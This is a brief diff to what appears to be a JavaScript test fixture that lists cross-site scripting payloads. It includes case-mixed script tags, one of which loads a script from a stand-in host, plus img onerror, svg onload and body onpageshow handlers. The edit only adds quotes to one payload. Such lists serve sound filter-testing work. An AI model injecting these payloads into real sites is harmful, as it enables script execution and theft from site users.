@@ -91,7 +91,7 @@ const html = String.raw`
 <ScRiPt src=//e.example/k.js></sCrIpT>
 "><script>prompt(3)</script>
 '><img src=q onerror=alert(4)>
-<img/src=q/onerror=confirm(2)>
+<img/src="q"/onerror=confirm(2)>
 <svg onload=alert(5)>
 <svg/onload=alert&lpar;6&rpar;>
 <body onpageshow=alert(1)>
